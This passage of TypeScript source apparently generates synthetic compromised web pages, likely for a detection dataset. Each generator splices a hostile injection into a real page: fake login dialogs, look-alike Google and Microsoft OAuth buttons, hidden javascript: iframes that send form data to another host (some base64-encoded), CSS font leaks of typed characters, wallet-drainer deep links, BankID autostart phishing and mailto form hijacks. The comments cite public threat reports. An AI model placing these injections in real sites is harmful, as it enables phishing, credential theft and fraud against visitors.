  const input = (name: string, type: string, ph: string) => `<input name="${name}" type="${type}" placeholder="${esc(ph)}" required style="display:block;width:100%;box-sizing:border-box;padding:9px;margin:6px 0;border:1px solid #ccc;border-radius:4px">`
  const dialog = `<dialog id="${id}" style="border:0;border-radius:${between(rng, 6, 14)}px;padding:${between(rng, 20, 30)}px;max-width:${between(rng, 340, 420)}px;box-shadow:0 10px 40px rgba(0,0,0,.35);font:14px ${font(rng)}"><form method="post" action="${esc(action)}"><h3 style="margin-top:0">🔒 ${esc(h)}</h3><p>${esc(p)}</p>${input("login", "text", user)}${input("password", "password", pass)}<input type="hidden" name="r" value="${esc(page.site.url)}"><button type="submit" style="${button(rng, pick(rng, ["#1565c0", "#2e7d32", "#333", "#c62828"]))};width:100%;margin-top:8px">${esc(cta)}</button></form></dialog>`
  const code = `setTimeout(function(){var d=document.getElementById("${id}");if(d&&d.showModal&&!sessionStorage.getItem("${id}")){sessionStorage.setItem("${id}","1");d.showModal()}},${between(rng, 1500, 25000)});`
  return splices(insert(pick(rng, [bottom(page), top(page), slotAt(page.spots, "bottom"), anySlot(rng, page.spots)]), dialog + wrapScript(rng, code)))
})

const ssoWords: Table<readonly [string, string]> = {
  en: ["Continue with", "Sign in faster with your existing account"], fr: ["Continuer avec", "Connectez-vous plus vite avec votre compte existant"], de: ["Weiter mit", "Schneller anmelden mit Ihrem bestehenden Konto"],
  es: ["Continuar con", "Inicia sesión más rápido con tu cuenta"], nl: ["Doorgaan met", "Sneller inloggen met je bestaande account"], pt: ["Continuar com", "Entre mais rápido com sua conta"], it: ["Continua con", "Accedi più velocemente con il tuo account"]
}

// Look-alike identity providers, recalled from memory of phishing reports (Microsoft Threat Intelligence, Proofpoint, Menlo Security and others, about 2020–2024) on pages copying the Google, Microsoft, Apple and Facebook sign-in screens behind "sign in with" buttons, with addresses built to look like the real OAuth endpoints (accounts-google, login-microsoftonline and the like, carrying client_id and redirect_uri parameters): a row of "continue with" buttons added beside the site's forms, each leading to such a look-alike.
const lookalikeSsoButtons = fresh20("'continue with Google / Microsoft / Apple / Facebook' buttons added beside the site's forms, leading to look-alike identity-provider hosts with OAuth-style paths", (page, rng) => {
  const [cont, hint] = some(rng, page, ssoWords)
  const back = encodeURIComponent(`${new URL(page.site.url).origin}/${pick(rng, ["auth/callback", "oauth/return", "login/complete"])}`)
  const providers = [
    () => ["Google", "#fff", "#3c4043", `https://${pick(rng, [`accounts-google.${tld(rng)}`, `accounts.google.com-signin.${tld(rng)}`, `google-accounts-${alnum(rng, 3)}.${tld(rng)}`, `accounts.gooogle-auth.${tld(rng)}`])}/o/oauth2/v2/auth?client_id=${digits(rng, 12)}-${alnum(rng, 32)}.apps.googleusercontent.com&redirect_uri=${back}&response_type=code&scope=openid%20email`] as const,
    () => ["Microsoft", "#2f2f2f", "#fff", `https://${pick(rng, [`login-microsoftonline.${tld(rng)}`, `login.microsoftonline.com.${alnum(rng, 5)}.${tld(rng)}`, `microsoft-login-${alnum(rng, 3)}.${tld(rng)}`, `office365-auth.${tld(rng)}`])}/common/oauth2/v2.0/authorize?client_id=${uuid(rng)}&response_type=code&redirect_uri=${back}`] as const,
    () => ["Apple", "#000", "#fff", `https://${pick(rng, [`appleid-apple.${tld(rng)}`, `appleid.apple.com-auth.${tld(rng)}`, `signin-appleid.${tld(rng)}`])}/auth/authorize?client_id=com.${bare(page)}.web&redirect_uri=${back}&response_type=code%20id_token`] as const,
    () => ["Facebook", "#1877f2", "#fff", `https://${pick(rng, [`facebook-login.${tld(rng)}`, `m-facebook-${alnum(rng, 3)}.${tld(rng)}`, `www.facebook.com-dialog.${tld(rng)}`])}/v19.0/dialog/oauth?client_id=${digits(rng, 15)}&redirect_uri=${back}`] as const
  ]
  const btns = sample(rng, providers, between(rng, 2, 4)).map((f) => f()).map(([name, bg, fg, url]) =>
    `<a href="${esc(url)}" style="display:block;margin:6px 0;padding:${pick(rng, ["9px 14px", "10px 16px", "8px 12px"])};background:${bg};color:${fg};border:1px solid #dadce0;border-radius:${pick(rng, ["4px", "20px", "6px"])};text-decoration:none;font:14px ${font(rng)};text-align:center;max-width:320px">${esc(`${cont} ${name}`)}</a>`).join("")
  const block = `<div class="${pick(rng, ["social-login", "sso-buttons", "login-providers"])}" style="margin:10px 0"><p style="font-size:13px;color:#555;margin:4px 0">${esc(hint)}</p>${btns}</div>`
  const f = forms(page)[0]
  const at = f !== undefined && f.closeTag !== null && chance(rng, 0.7) ? pick(rng, [f.closeTag.start, f.closeTag.end]) : noticeSpot(rng, page)
  return splices(insert(at, block))
})

// javascript: URLs as a frame source, recalled from memory of OWASP's XSS filter-evasion cheat sheet (<IFRAME SRC="javascript:...">) and of the HTML rule that a frame navigated to a javascript: URL runs the code in the embedding page's origin and, when the code returns a string, shows it as the frame's document: a hidden iframe whose src is a javascript: URL that reaches into the parent page to load a script from another host, to watch its forms, or to send the top window elsewhere.
const javascriptFrameLoader = fresh20("hidden iframe whose src is a javascript: URL reaching into the parent page to load a script from another host, watch its forms or redirect it", (page, rng) => {
  const h = pick(rng, [libLookalike(rng), randomDomain(rng), brandLookalike(rng, page.site.brand)])
  const script = `https://${h}/${pick(rng, ["js/app.min.js", "lib/core.js", "s/" + alnum(rng, 8) + ".js", "gtag/js?id=G-" + upper(rng, 8)])}`
  const inject = `var d=parent.document,s=d.createElement('script');s.src='${script}';d.head.appendChild(s)`
  const watch = `parent.document.addEventListener('submit',function(e){var f=e.target,o=[];for(var i=0;i<f.elements.length;i++){var x=f.elements[i];if(x.name)o.push(x.name+'='+x.value)}navigator.sendBeacon('https://${h}/c',o.join('&'))},true)`
  const src = pick(rng, [
    () => `javascript:void(function(){${inject}}())`,
    () => `javascript:'<script src="${script}"><\\/script><script>parent.__f=1<\\/script>'`,
    () => `javascript:eval(atob('${Buffer.from(pick(rng, [inject, watch])).toString("base64")}'))`,
    () => `javascript:void(${watch})`,
    () => `javascript:top.location.replace('https://${h}/${pick(rng, ["lp", "go", "r"])}/${alnum(rng, 6)}')`
  ])()
  const hide = pick(rng, [` style="display:none"`, ` width="0" height="0" style="border:0;position:absolute"`, ` style="visibility:hidden;position:absolute;left:-9999px;width:1px;height:1px"`, ` hidden`])
  return splices(insert(pick(rng, [top(page), bottom(page), anySlot(rng, page.spots)]), `<iframe src="${esc(src)}"${hide} title="${pick(rng, ["", "stats", "frame", "sync"])}"></iframe>`))
})

// Font leaks, recalled from memory, with uncertain sources, of research on CSS-only data theft (Gareth Heyes' and PortSwigger's work on CSS exfiltration, about 2017–2023, and other researchers' notes on @font-face unicode-range): a browser downloads a web font only when a character in its unicode-range is drawn, so one font per character, each with its own URL on another host, applied to the site's fields and contact block, tells that host which characters visitors type or see.
const fontRangeLeak = fresh20("CSS font leak: one @font-face per character with a unicode-range and a URL on another host, applied to the site's fields, so the host learns which characters visitors type", (page, rng) => {
  const h = pick(rng, [`fonts-${alnum(rng, 4)}.${tld(rng)}`, libLookalike(rng), randomDomain(rng), `${pick(rng, ["webfonts", "typo", "glyph", "fontcdn"])}.${tld(rng)}`])
  const fam = pick(rng, ["Inter Var", "Roboto Flex", "SiteSans", "Open Sans", `F${alnum(rng, 4)}`])
  const chars = [..."0123456789@.", ...sample(rng, [..."abcdefghijklmnopqrstuvwxyz"], between(rng, 6, 26))]
  const rules = chars.map((c) => `@font-face{font-family:"${fam}";src:url(https://${h}/${pick(rng, ["f", "w"])}?c=${encodeURIComponent(c)}&s=${encodeURIComponent(page.site.host)});unicode-range:U+${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, "0")}}`).join("")
  const apply = `${pick(rng, ["input,textarea", "input[type=password],input[type=email],input[type=text]", "input,textarea,.site-contact,.contact-box,#contact"])}{font-family:"${fam}",${pick(rng, ["Arial,sans-serif", "sans-serif", "inherit"])}!important}`
  return splices(insert(pick(rng, [head(page), headStart(page), bottom(page)]), `<style>${rules}${apply}</style>`))
})

// ———————————————————————————— sending visitors elsewhere ————————————————————————————

// Image maps laid over pictures, recalled from memory, with uncertain sources, of phishing e-mails and pages built as one clickable picture whose map areas all lead to the phishing host (common about 2005–2015), and of the HTML rule that an img with usemap makes its areas, not an enclosing link, take the click: usemap attributes added to the site's own pictures, with maps whose areas cover each whole picture and lead to another host.
const imageMapHijack = fresh20("site's own pictures given a usemap whose area covers the whole picture and leads to another host", (page, rng) => {
  const imgs = shown(page, "img", (e) => !e.inert && e.attribs.usemap === undefined && e.attribs.ismap === undefined)
  const h = pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), host(rng, page, ["promo", "deal", "win", "offer", "go"])])
  const url = (i: number) => `https://${h}/${pick(rng, ["go", "r", "promo", "lp"])}/${alnum(rng, 6)}?i=${i}&amp;src=${encodeURIComponent(page.site.host)}`
  const area = (i: number, w: number, hh: number) => pick(rng, [`<area shape="default" href="${url(i)}" alt="">`, `<area shape="rect" coords="0,0,${w},${hh}" href="${url(i)}" alt="">`, `<area shape="default" href="${url(i)}" target="_blank" alt="">`])
  if (imgs.length === 0) {
    const name = `m${alnum(rng, 5)}`
    return splices(insert(noticeSpot(rng, page), `<p><img src="https://${h}/${pick(rng, ["b", "img", "banner"])}/${alnum(rng, 8)}.${pick(rng, ["jpg", "png", "gif"])}" width="${between(rng, 300, 728)}" height="${between(rng, 90, 250)}" usemap="#${name}" alt=""><map name="${name}">${area(0, 728, 250)}</map></p>`))
  }
  const out: Array<Splice> = []
  sample(rng, imgs, between(rng, 1, Math.min(8, imgs.length))).forEach((img, i) => {
    const name = `${pick(rng, ["m", "map", "im"])}${alnum(rng, 5)}`
    out.push(setAttr(page, img, "usemap", `#${name}`))
    out.push(insert(img.openEnd, `<map name="${name}">${area(i, Number(img.attribs.width) || 2000, Number(img.attribs.height) || 2000)}</map>`))
  })
  return { splices: out }
})

// Shortened links, recalled from memory, with uncertain sources, of clean-up reports by Sucuri and Wordfence (about 2018–2023) on hacked sites whose links were rewritten through URL shorteners (bit.ly, tinyurl, is.gd, cutt.ly and others) so the final spam, scam or malware address shows nowhere in the page, and of the shorteners' abuse reports: many of the site's own and outbound links rewritten to short links, their visible text kept.
const shortenedLinks = fresh20("many of the site's links rewritten to URL-shortener addresses (bit.ly, tinyurl, is.gd, cutt.ly...) hiding where they lead, link text kept", (page, rng) => {
  const links = followable(page)
  const service = () => pick(rng, ["bit.ly", "tinyurl.com", "is.gd", "cutt.ly", "rb.gy", "t.ly", "shorturl.at", "ow.ly", "s.id", "v.gd", "tiny.cc", "rebrand.ly", "bl.ink", "shorte.st"])
  const one = chance(rng, 0.5) ? service() : null
  const short = () => { const s = one ?? service(); return `https://${s}/${s === "shorturl.at" ? alnum(rng, 5).replace(/[0-9]/g, "x") : alnum(rng, between(rng, 5, 8))}` }
  if (links.length === 0) return splices(insert(noticeSpot(rng, page), `<p><a href="${short()}">${esc(brandName(page))}</a></p>`))
  const k = Math.max(1, Math.min(links.length, chance(rng, 0.5) ? between(rng, 3, 12) : Math.ceil(links.length * (0.3 + 0.6 * rng()))))
  return { splices: sample(rng, links, k).map((t) => replace(t.value, short())) }
})

const jumpMenus: ReadonlyArray<readonly [string, string, ReadonlyArray<string>]> = [
  ["zh-CN", "友情链接", ["澳门新葡京", "威尼斯人娱乐", "太阳城集团", "皇冠体育", "bet365官网", "开元棋牌", "AG真人视讯", "彩票平台", "代开发票"]],
  ["en", "Partner sites", ["Best online casino", "Cheap Viagra online", "Payday loans today", "Essay writing service", "Buy Instagram followers", "Replica watches", "CBD gummies"]],
  ["id", "Link Alternatif", ["Slot Gacor", "Togel Online", "Judi Bola", "Situs Slot Resmi", "Slot Maxwin", "Bandar Togel"]],
  ["ja", "関連サイト", ["オンラインカジノ", "ブランドコピー", "激安通販", "スーパーコピー時計", "出会い系"]],
  ["pt-BR", "Links parceiros", ["Cassino online", "Apostas esportivas", "Bet de 1 real", "Jogo do tigrinho", "Empréstimo na hora"]],
  ["tr", "Faydalı linkler", ["Deneme bonusu", "Canlı bahis", "Kaçak bahis siteleri", "Casino siteleri", "Bahis giriş"]]
]

// Jump menus, recalled from memory of the "友情链接" (friend links) drop-down lists common on Chinese sites and of hacked pages carrying them filled with gambling and invoice spam (reported by Chinese security bloggers and Sucuri, about 2015–2024, uncertain), and of the old "jump menu" idiom (a select whose onchange sets location): a select of spam or gambling sites that navigates on change, in Chinese, English, Indonesian, Japanese, Portuguese or Turkish.
const jumpMenuSpam = fresh20("'friend links' jump menu: a select whose options navigate to gambling and spam sites on change (友情链接, partner sites, link alternatif)", (page, rng) => {
  const [lang, label, names] = pick(rng, jumpMenus)
  const opts = sample(rng, names, between(rng, 3, names.length)).map((n) => `<option value="https://${pick(rng, [randomDomain(rng), `${slug(n) || alnum(rng, 6)}${digits(rng, 2)}.${tld(rng)}`, `${alnum(rng, 6)}.${pick(rng, ["cn", "com", "net", "top", "vip", "xyz"])}`])}/">${esc(n)}</option>`).join("")
  const nav = pick(rng, [`if(this.value)location.href=this.value`, `if(this.value)window.open(this.options[this.selectedIndex].value)`, `location=this.value`])
  const select = `<select name="${pick(rng, ["links", "flink", "jump", "sites"])}" onchange="${esc(nav)}" style="max-width:${between(rng, 140, 260)}px"><option value="">${esc(label)}</option>${opts}</select>`
  const html = chance(rng, 0.5) ? `<form class="${pick(rng, ["flink", "friend-links", "jump"])}" lang="${lang}" style="margin:8px 0">${select}</form>` : `<div class="${pick(rng, ["flink", "links", "partners"])}" lang="${lang}" style="margin:8px 0">${chance(rng, 0.5) ? `${esc(label)}: ` : ""}${select}</div>`
  return splices(insert(spamSpot(rng, page), html))
})

const readWords: Table<(b: string) => readonly [string, string]> = {
  en: (b) => ["Continue reading", `The full article continues on the ${b} reader.`], fr: (b) => ["Lire la suite", `La suite de l'article est disponible sur le lecteur ${b}.`],
  de: (b) => ["Weiterlesen", `Der vollständige Artikel geht im ${b}-Reader weiter.`], es: (b) => ["Seguir leyendo", `El artículo completo continúa en el lector de ${b}.`],
  nl: (b) => ["Verder lezen", `Het volledige artikel gaat verder in de ${b}-lezer.`], pt: (b) => ["Continuar lendo", `O artigo completo continua no leitor ${b}.`],
  it: (b) => ["Continua a leggere", `L'articolo completo continua sul lettore di ${b}.`]
}

// "Continue reading" gates, recalled from memory, with uncertain sources, of hacked WordPress sites (Sucuri and Wordfence clean-ups, about 2019–2024) where injected code cut articles short behind a "continue reading" or "read full story" button leading to a scraped copy on another host full of ads or scams, and of publishers' legitimate truncation patterns that such gates imitate: the page cut by a rule hiding everything after an inserted marker (or a fixed fade over the lower half of the window) with a button to another host.
const readMoreGate = fresh20("'continue reading' gate: the page cut after an inserted marker (or faded out) with a button leading to a copy on another host", (page, rng) => {
  const [cta, p] = some(rng, page, readWords)(brandName(page))
  const url = `https://${pick(rng, [brandLookalike(rng, page.site.brand), `${pick(rng, ["read", "news", "story", "m"])}-${bare(page)}.${tld(rng)}`, randomDomain(rng)])}/${pick(rng, ["read", "story", "article", "amp"])}/${alnum(rng, 8)}?ref=${encodeURIComponent(page.site.host)}`
  const accent = pick(rng, ["#1565c0", "#c62828", "#2e7d32", "#111", "#6a1b9a"])
  if (chance(rng, 0.5)) {
    const cls = `rm-${alnum(rng, 5)}`
    const at = slotAt(page.spots, pick(rng, ["top", "top", "middle"]))
    return splices(insert(at, `<style>.${cls}~*{display:none!important}</style><div class="${cls}" style="text-align:center;margin:18px 0;padding:16px;border-top:1px solid #ddd;font:15px ${font(rng)}"><p>${esc(p)}</p><a href="${esc(url)}" style="${button(rng, accent)}">${esc(cta)} →</a></div>`))
  }
  return splices(insert(pick(rng, [bottom(page), top(page)]), `<div class="${pick(rng, ["read-more-gate", "continue", "fade-gate"])}" style="position:fixed;left:0;right:0;bottom:0;height:${between(rng, 40, 70)}vh;z-index:${zTop(rng)};background:linear-gradient(to bottom,rgba(255,255,255,0),#fff ${between(rng, 25, 50)}%);display:flex;flex-direction:column;align-items:center;justify-content:flex-end;padding-bottom:${between(rng, 24, 80)}px;font:15px ${font(rng)}"><p>${esc(p)}</p><a href="${esc(url)}" style="${button(rng, accent)}">${esc(cta)} ↓</a></div>${chance(rng, 0.5) ? "<style>html,body{overflow:hidden!important}</style>" : ""}`))
})

const iosWords: Table<(app: string, org: string) => readonly [string, string, ReadonlyArray<string>, string]> = {
  en: (a, o) => [`Install the ${a} app for iPhone`, "Our iPhone app is not in the App Store yet. Install it directly in four steps:", ["Tap “Install” and confirm", "Open Settings › General › VPN & Device Management", `Tap “${o}” and choose “Trust”`, "Open the app and sign in"], "Install on iPhone"],
  fr: (a, o) => [`Installez l'application ${a} pour iPhone`, "Notre application iPhone n'est pas encore sur l'App Store. Installez-la directement en quatre étapes :", ["Touchez « Installer » et confirmez", "Ouvrez Réglages › Général › VPN et gestion de l'appareil", `Touchez « ${o} » puis « Faire confiance »`, "Ouvrez l'application et connectez-vous"], "Installer sur iPhone"],
  de: (a, o) => [`Die ${a}-App für iPhone installieren`, "Unsere iPhone-App ist noch nicht im App Store. Installieren Sie sie direkt in vier Schritten:", ["Auf „Installieren“ tippen und bestätigen", "Einstellungen › Allgemein › VPN und Geräteverwaltung öffnen", `„${o}“ antippen und „Vertrauen“ wählen`, "App öffnen und anmelden"], "Auf dem iPhone installieren"],
  es: (a, o) => [`Instala la app de ${a} para iPhone`, "Nuestra app para iPhone aún no está en la App Store. Instálala directamente en cuatro pasos:", ["Toca «Instalar» y confirma", "Abre Ajustes › General › VPN y gestión de dispositivos", `Toca «${o}» y elige «Confiar»`, "Abre la app e inicia sesión"], "Instalar en iPhone"],
  nl: (a, o) => [`Installeer de ${a}-app voor iPhone`, "Onze iPhone-app staat nog niet in de App Store. Installeer hem direct in vier stappen:", ["Tik op ‘Installeer’ en bevestig", "Open Instellingen › Algemeen › VPN en apparaatbeheer", `Tik op ‘${o}’ en kies ‘Vertrouw’`, "Open de app en log in"], "Installeren op iPhone"],
  pt: (a, o) => [`Instale o app ${a} para iPhone`, "Nosso app para iPhone ainda não está na App Store. Instale direto em quatro passos:", ["Toque em “Instalar” e confirme", "Abra Ajustes › Geral › VPN e Gerenciamento de Dispositivos", `Toque em “${o}” e escolha “Confiar”`, "Abra o app e entre"], "Instalar no iPhone"],
  it: (a, o) => [`Installa l'app ${a} per iPhone`, "La nostra app per iPhone non è ancora sull'App Store. Installala direttamente in quattro passaggi:", ["Tocca «Installa» e conferma", "Apri Impostazioni › Generali › VPN e gestione dispositivi", `Tocca «${o}» e scegli «Autorizza»`, "Apri l'app e accedi"], "Installa su iPhone"]
}

// Enterprise-signed iPhone apps, recalled from memory of Sophos' CryptoRom reports (about 2021–2022) on fake trading apps installed outside the App Store through enterprise or "super signature" distribution and TestFlight, of Apple's itms-services://?action=download-manifest mechanism that installs an app from a manifest on any web host once its developer certificate is trusted in Settings, and of similar reports on sideloaded banking and gambling apps: an "install our iPhone app" block with an itms-services link to a manifest on another host and the steps to trust an unknown developer.
const enterpriseAppInstall = fresh20("'install our iPhone app' block with an itms-services:// enterprise-distribution link to a manifest on another host and steps to trust an unknown developer profile", (page, rng) => {
  const org = pick(rng, ["Shenzhen Huaxin Technology Co., Ltd.", "Global Trade Solutions LLC", `${brandName(page)} Mobile Ltd`, "Xiamen Yunhai Network Co., Ltd.", "Nova Digital Services Inc.", "Apex Fintech Pte. Ltd."])
  const app = pick(rng, [brandName(page), `${brandName(page)} ${pick(rng, ["Pro", "Plus", "Wallet", "Trade"])}`])
  const [h, p, steps, cta] = some(rng, page, iosWords)(app, org)
  const hh = pick(rng, [`${pick(rng, ["ios", "app", "dl", "install"])}-${bare(page)}.${tld(rng)}`, randomDomain(rng), brandLookalike(rng, page.site.brand), `${alnum(rng, 8)}.${pick(rng, ["pages.dev", "netlify.app", "web.app", "vercel.app"])}`])
  const manifest = `https://${hh}/${pick(rng, ["ios", "app", "dl"])}/${pick(rng, ["manifest", "install", alnum(rng, 6)])}.plist`
  const href = `itms-services://?action=download-manifest&url=${chance(rng, 0.5) ? manifest : encodeURIComponent(manifest)}`
  const accent = pick(rng, ["#007aff", "#111", "#34c759", "#5856d6"])
  const inner = `<h3 style="margin-top:0">📱 ${esc(h)}</h3><p>${esc(p)}</p><ol>${steps.map((s) => `<li>${esc(s)}</li>`).join("")}</ol><p><a href="${esc(href)}" style="${button(rng, accent)}">${esc(cta)}</a></p>`
  return splices(insert(someSpot(rng, page), `<div class="${pick(rng, ["app-install", "ios-app", "download-app"])}" style="border:1px solid ${accent};border-radius:${between(rng, 6, 16)}px;padding:${between(rng, 12, 20)}px;margin:12px 0;max-width:${between(rng, 480, 720)}px;font:14px ${font(rng)}">${inner}</div>`))
})

const walletWords: Table<(t: string) => readonly [string, string, string]> = {
  en: (t) => [`Claim your ${t} airdrop`, "Eligible holders and supporters can claim until the end of the week. Open this page in your wallet app to claim:", "Open in"],
  fr: (t) => [`Réclamez votre airdrop ${t}`, "Les détenteurs et soutiens éligibles peuvent réclamer jusqu'à la fin de la semaine. Ouvrez cette page dans votre portefeuille :", "Ouvrir dans"],
  de: (t) => [`Holen Sie sich Ihren ${t}-Airdrop`, "Berechtigte Inhaber und Unterstützer können bis Ende der Woche beanspruchen. Öffnen Sie diese Seite in Ihrer Wallet-App:", "Öffnen in"],
  es: (t) => [`Reclama tu airdrop de ${t}`, "Los poseedores y colaboradores elegibles pueden reclamarlo hasta el final de la semana. Abre esta página en tu monedero:", "Abrir en"],
  nl: (t) => [`Claim je ${t}-airdrop`, "Geschikte houders en supporters kunnen tot het einde van de week claimen. Open deze pagina in je wallet-app:", "Openen in"],
  pt: (t) => [`Resgate seu airdrop de ${t}`, "Detentores e apoiadores elegíveis podem resgatar até o fim da semana. Abra esta página no app da sua carteira:", "Abrir no"],
  it: (t) => [`Richiedi il tuo airdrop ${t}`, "I possessori e sostenitori idonei possono richiederlo fino a fine settimana. Apri questa pagina nell'app del tuo wallet:", "Apri in"]
}

// Wallet deep links into drainers, recalled from memory of Scam Sniffer's yearly drainer reports (about 2023–2024), of wallet vendors' deep-link formats (metamask.app.link/dapp/<host>, link.trustwallet.com/open_url, go.cb-w.com/dapp, phantom.app/ul/browse) that open a page inside the wallet's own browser where a connect-and-sign prompt looks native, and of drainer kits' "claim" pages reached through hacked sites and posts: a claim notice with one deep-link button per wallet app, all opening a drainer on another host.
const walletDeepLinks = fresh20("'claim your airdrop' notice with wallet deep links (MetaMask, Trust Wallet, Coinbase Wallet, Phantom, OKX) opening a drainer page inside the wallet's browser", (page, rng) => {
  const token = pick(rng, [`$${upper(rng, 3)}`, `${brandName(page)} Token`, `${upper(rng, 4)}`, "ETH", "SOL"])
  const [h, p, openIn] = some(rng, page, walletWords)(token)
  const dh = pick(rng, [`claim-${bare(page)}.${tld(rng)}`, `${pick(rng, ["airdrop", "rewards", "claim", "mint"])}-${alnum(rng, 4)}.${tld(rng)}`, brandLookalike(rng, page.site.brand), randomDomain(rng)])
  const target = `${dh}/${pick(rng, ["claim", "mint", "airdrop", "rewards"])}?ref=${alnum(rng, 6)}`
  const full = encodeURIComponent(`https://${target}`)
  const links = sample(rng, [
    ["MetaMask", `https://metamask.app.link/dapp/${target}`],
    ["Trust Wallet", `https://link.trustwallet.com/open_url?coin_id=60&url=${full}`],
    ["Coinbase Wallet", `https://go.cb-w.com/dapp?cb_url=${full}`],
    ["Phantom", `https://phantom.app/ul/browse/${full}?ref=${encodeURIComponent(`https://${dh}`)}`],
    ["OKX Wallet", `okx://wallet/dapp/url?dappUrl=${full}`]
  ] as const, between(rng, 2, 5))
  const accent = pick(rng, ["#f6851b", "#3375bb", "#ab9ff2", "#0052ff", "#111"])
  const btns = links.map(([n, u]) => `<a href="${esc(u)}" style="${button(rng, accent)};margin:4px">${esc(`${openIn} ${n}`)}</a>`).join(" ")
  return splices(insert(someSpot(rng, page), `<div class="${pick(rng, ["airdrop", "claim", "web3"])}" style="border:2px solid ${accent};border-radius:${between(rng, 6, 14)}px;padding:14px;margin:12px 0;font:14px ${font(rng)};text-align:center"><h3 style="margin-top:0">🎁 ${esc(h)}</h3><p>${esc(p)}</p><p>${btns}</p></div>`))
})

const bankIdWords: ReadonlyArray<(ctx: string) => readonly [string, string, string, string, string]> = [
  (c) => ["sv", `${c}: legitimera dig med BankID`, "Av säkerhetsskäl behöver du bekräfta din identitet. Starta BankID-appen och skanna QR-koden, eller öppna BankID på den här enheten.", "Öppna BankID på den här enheten", "Skanna QR-koden med BankID-appen"],
  (c) => ["sv", `${c}: bekräfta din återbetalning`, "Du har en återbetalning att hämta. Signera med BankID för att få pengarna insatta på ditt konto i dag.", "Öppna BankID", "Skanna med BankID-appen"],
  (c) => ["nb", `${c}: bekreft med BankID`, "Av sikkerhetshensyn må du bekrefte identiteten din. Åpne BankID-appen og skann QR-koden, eller start BankID på denne enheten.", "Åpne BankID på denne enheten", "Skann QR-koden med BankID-appen"],
  (c) => ["en", `${c}: verify with BankID`, "For your security, confirm your identity. Open the BankID app and scan the QR code, or start BankID on this device.", "Open BankID on this device", "Scan the QR code with the BankID app"]
]

// BankID phishing, recalled from memory of Swedish police and bank warnings and press reports (about 2019–2023) on fraudsters who start a real BankID login to the victim's bank and get the victim to approve it through a fake "refund", "age check" or "delivery" page showing the fraudster's QR code or autostart link, which led BankID to make its QR codes animated (about 2021–2022); and of the bankid:///?autostarttoken=...&redirect=null link format: a BankID box in Swedish or Norwegian (sometimes English) with an autostart link and a QR code refreshed every second from another host.
const bankIdAutostart = fresh20("Swedish or Norwegian 'verify with BankID' box with a bankid:// autostart token and an animated QR code refreshed from another host (real-time BankID phishing)", (page, rng) => {
  const ctx = pick(rng, [brandName(page), "Skatteverket", "PostNord", "Kundtjänst", "Swish", "Åldersverifiering"])
  const [lang, h, p, open, scan] = pick(rng, bankIdWords)(ctx)
  const token = uuid(rng)
  const hh = pick(rng, [`bankid-${pick(rng, ["verify", "secure", "login", "se"])}.${tld(rng)}`, randomDomain(rng), brandLookalike(rng, page.site.brand)])
  const href = pick(rng, [`bankid:///?autostarttoken=${token}&redirect=null`, `https://app.bankid.com/?autostarttoken=${token}&redirect=null`])
  const id = `q${alnum(rng, 5)}`
  const qr = `https://${hh}/${pick(rng, ["api/qr", "qr", "auth/qr"])}?t=${token}`
  const code = `var n=0,q=document.getElementById("${id}");setInterval(function(){if(q)q.src=${js(qr)}+"&n="+(n++)},1000);`
  const html = `<div class="${pick(rng, ["bankid", "bankid-login", "verify"])}" lang="${lang}" style="border:1px solid #193e4f;border-radius:${between(rng, 6, 12)}px;padding:16px;margin:12px auto;max-width:${between(rng, 340, 460)}px;text-align:center;font:14px ${font(rng)}"><h3 style="margin-top:0;color:#193e4f">${esc(h)}</h3><p>${esc(p)}</p><img id="${id}" src="${esc(qr)}" width="${between(rng, 160, 220)}" height="${between(rng, 160, 220)}" alt="QR"><p style="font-size:12px;color:#555">${esc(scan)}</p><p><a href="${esc(href)}" style="${button(rng, "#193e4f")}">${esc(open)}</a></p></div>`
  return splices(insert(noticeSpot(rng, page), html + wrapScript(rng, code)))
})

const mailtoWords: Table<string> = {
  en: "Your e-mail program will open: just press Send.", fr: "Votre messagerie va s'ouvrir : il suffit de cliquer sur Envoyer.", de: "Ihr E-Mail-Programm öffnet sich: einfach auf Senden klicken.",
  es: "Se abrirá tu programa de correo: solo pulsa Enviar.", nl: "Je e-mailprogramma wordt geopend: druk gewoon op Verzenden.", pt: "Seu programa de e-mail vai abrir: basta clicar em Enviar.", it: "Si aprirà il tuo programma di posta: premi Invia."
}

// mailto: form actions, recalled from memory of the HTML specification's "mail-as-body" and "mail-with-headers" submission for forms whose action is a mailto: URL (HTML 4 onward; with enctype="text/plain" the fields become the message body) and, with uncertain sources, of defaced contact and newsletter forms redirected to a free-mail address: the site's own forms given a mailto: action to an outside mailbox (text/plain encoding), so what visitors enter is mailed there from their own mail program.
const mailtoFormAction = fresh20("site's own forms given a mailto: action to an outside free-mail address (enctype text/plain), so what visitors enter is mailed there", (page, rng) => {
  const addr = `${pick(rng, [`${pick(rng, ["contact", "info", "newsletter", "orders", "support", "office"])}.${bare(page)}`, `${bare(page)}${digits(rng, 2)}`, `${bare(page)}.${pick(rng, ["team", "help", "service"])}`])}@${pick(rng, ["gmail.com", "outlook.com", "proton.me", "yandex.com", "mail.ru", "gmx.net", "hotmail.com", "aol.com"])}`
  const action = `mailto:${addr}${chance(rng, 0.6) ? `?subject=${encodeURIComponent(pick(rng, ["Newsletter", "Contact", "Order", brandName(page)]))}` : ""}`
  const fs = forms(page)
  if (fs.length === 0) return splices(insert(noticeSpot(rng, page), `<form action="${esc(action)}" method="post" enctype="text/plain"><input type="email" name="email"> <button type="submit">OK</button></form>`))
  const out: Array<Splice> = []
  for (const f of sample(rng, fs, between(rng, 1, fs.length))) {
    out.push(setAttr(page, f, "action", action))
    if (chance(rng, 0.8)) out.push(setAttr(page, f, "enctype", "text/plain"))
    if ((f.attribs.method ?? "").toLowerCase() !== "post" && chance(rng, 0.7)) out.push(setAttr(page, f, "method", "post"))
    if (chance(rng, 0.35) && f.closeTag !== null) out.push(insert(f.closeTag.start, `<small style="display:block;color:#777">${esc(some(rng, page, mailtoWords))}</small>`))
  }
  return { splices: out }
})

// App Links metadata, recalled from memory of Facebook's App Links protocol (announced about April 2014: al:ios:url, al:ios:app_store_id, al:android:package, al:android:url, al:web:url meta tags that tell apps where to send someone who opens a shared link) and of X/Twitter's app-card tags (twitter:app:id:iphone, twitter:app:url:googleplay...): such tags added to the head, naming the site but pointing at another developer's app and a web fallback on another host, so visitors who open a shared link from a social app are sent there.
const appLinksHijack = fresh20("App Links and X app-card meta tags (al:ios:url, al:android:package, al:web:url, twitter:app:*) naming the site but pointing at another app and a web fallback on another host", (page, rng) => {
  const name = brandName(page)
  const scheme = `${bare(page).slice(0, 10)}${pick(rng, ["app", "x", "pay", "go"])}`
